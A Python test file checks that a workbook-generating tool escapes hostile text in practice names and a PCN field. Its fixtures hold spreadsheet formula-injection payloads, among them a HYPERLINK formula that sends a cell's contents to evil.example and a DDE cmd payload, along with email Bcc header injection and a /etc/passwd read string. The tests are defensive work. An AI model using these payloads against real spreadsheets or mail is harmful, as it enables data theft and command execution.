"""Text from outside becomes no formula, no header and no markup, whatever it begins with or holds."""

import email
import io
import re
from email.policy import default

import pandas as pd
import pytest

from iif_reckoner.errors import InputError
from iif_reckoner.package import Package
from iif_reckoner.sources import read_practices
from tests import desk_books as desk

NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 Practice",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "Mill <b>&amp;</b> Lane",
    "Bcc: x@evil.example",
)
PCN = '=1+1\r\nBcc: all@evil.example\x07 #read("/etc/passwd")'


@pytest.fixture(scope="module")
def book(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    frame = pd.DataFrame({
        "practice_code": [f"X9900{number}" for number in range(len(NAMES))],
        "practice_name": [f"{name}\x07" for name in NAMES],
        "list_size": 8000,
    })  # fmt: skip
    frame.to_csv(folder / "practices.csv", index=False)
    return folder / "book.xlsx"


def test_in_a_workbook_a_printed_table_and_a_message(book, capsys):
    """One workbook is made, since making is slow, and all that leaves it is looked at."""
    made = desk.ran(
        capsys, "new", "--ruleset", "2025/26", "--pcn", "U99901", "--name", PCN, "--practices",
        book.with_name("practices.csv"), "--output", book,
    )  # fmt: skip
    assert made[0] == 0, made[2]
    package = Package.open(book)
    cells = [(sheet.name, cell) for sheet in package.sheets for cell in package.filled(sheet.name)]
    typed = [cell.value for name, cell in cells if name == "Practices" and cell.value in NAMES and not cell.is_formula]
    assert typed == list(NAMES)
    for _, cell in cells:
        assert not re.search(r"^[=+@-]?(HYPERLINK|cmd|SUM\(A1:A9|1\+1|2\+3)", cell.formula)
        assert not isinstance(cell.value, str) or cell.value.isprintable() or "\x07" not in cell.value
    code, out, _ = desk.ran(capsys, "practices", book, "--format", "csv")
    assert code == 0
    printed = pd.read_csv(io.StringIO(out), dtype="str")
    column = next(name for name in printed.columns if "name" in name)
    assert [not cell.startswith(("=", "+", "-", "@")) for cell in printed[column]] == [True] * len(NAMES)
    printed = printed.rename(columns={column: "practice_name"})[["practice_code", "practice_name", "list_size"]]
    printed.to_csv(book.with_name("again.csv"), index=False)
    assert read_practices(book.with_name("again.csv")).rows["practice_name"].tolist() == list(NAMES)
    copy = book.with_name("copy.xlsx")
    assert desk.ran(capsys, "share", book, "--output", copy, "--email")[0] == 0
    message = email.message_from_bytes(copy.with_suffix(".eml").read_bytes(), policy=default)
    assert set(message.keys()) == {"X-Unsent", "To", "Subject", "MIME-Version", "Content-Type"}
    assert "\x07" not in message["Subject"]


def test_a_name_longer_than_any_is_refused(tmp_path):
    path = tmp_path / "practices.csv"
    path.write_text(f"practice_code,practice_name,list_size\nA81001,{'x' * 256},5\n")
    with pytest.raises(InputError) as error:
        read_practices(path)
    assert str(error.value) == (
        "practices.csv: row 2, practice_name: 'xxxxxxxxxxxxxxxxxxxx...' is longer than 255 characters; write the name alone"
    )
